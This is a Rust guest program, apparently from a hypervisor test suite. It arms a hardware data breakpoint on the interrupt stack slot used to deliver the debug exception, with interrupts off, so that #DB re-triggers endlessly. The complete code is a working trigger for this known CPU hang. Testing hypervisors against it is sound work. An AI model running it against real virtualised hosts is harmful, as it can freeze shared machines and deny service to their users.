//! Delivery of #DB raises #DB again, for ever: a breakpoint on the stack that the delivery writes. RFLAGS.IF is clear
//! meanwhile. SDM 3A 17.2.

#![no_std]
#![no_main]

use attacks::{Machine, idt, on};
use core::arch::asm;
use kit::frames::PAGE;
use kit::segments::KERNEL_CODE;
use kit::trap::{Gate, stub};

attacks::guest!(run);

/// Debug exception.
const DEBUG: u8 = 1;
/// The stack it is delivered on.
const IST: u8 = 2;
/// DR7: L0 (bit 0); R/W0 = 1, data writes (17:16); LEN0 = 2, eight bytes (19:18).
const DR7: u64 = 1 << 0 | 1 << 16 | 2 << 18 | 1 << 10;

fn run(mut machine: Machine) -> ! {
    let stack = machine.frames.take(PAGE, PAGE).expect("no memory") + PAGE;
    set_stack(stack);
    idt().0[DEBUG as usize] = Gate::interrupt(stub(DEBUG), IST);
    // Where a handler runs at all, it returns, and the next write raises the exception again.
    on(DEBUG, |_| {});
    machine.alive();
    kit::cpu::cli();
    // The delivery's first push is SS, in the eight bytes below the top.
    let slot = (stack - 8) as *mut u64;
    // SAFETY: debug registers affect this guest only; the slot is its own memory.
    unsafe {
        asm!("mov dr0, {}", in(reg) slot, options(nomem, nostack));
        asm!("mov dr7, {}", in(reg) DR7, options(nomem, nostack));
        loop {
            slot.write_volatile(KERNEL_CODE as u64);
        }
    }
}

/// Points IST2 of the task-state segment in use at `stack`.
fn set_stack(stack: u64) {
    let mut gdt = kit::segments::TablePointer { limit: 0, base: 0 };
    // SAFETY: SGDT stores ten bytes; the GDT and the TSS that it names are this image's own.
    unsafe {
        asm!("sgdt [{}]", in(reg) &mut gdt, options(nostack, preserves_flags));
        let descriptor = (gdt.base + kit::segments::TASK_STATE as u64) as *const [u64; 2];
        let [low, high] = descriptor.read_unaligned();
        let base = low >> 16 & 0xFF_FFFF | (low >> 56) << 24 | high << 32;
        // SDM 3A 7.7: IST1 is at 36.
        ((base + 36 + 8 * (IST as u64 - 1)) as *mut u64).write_unaligned(stack);
    }
}
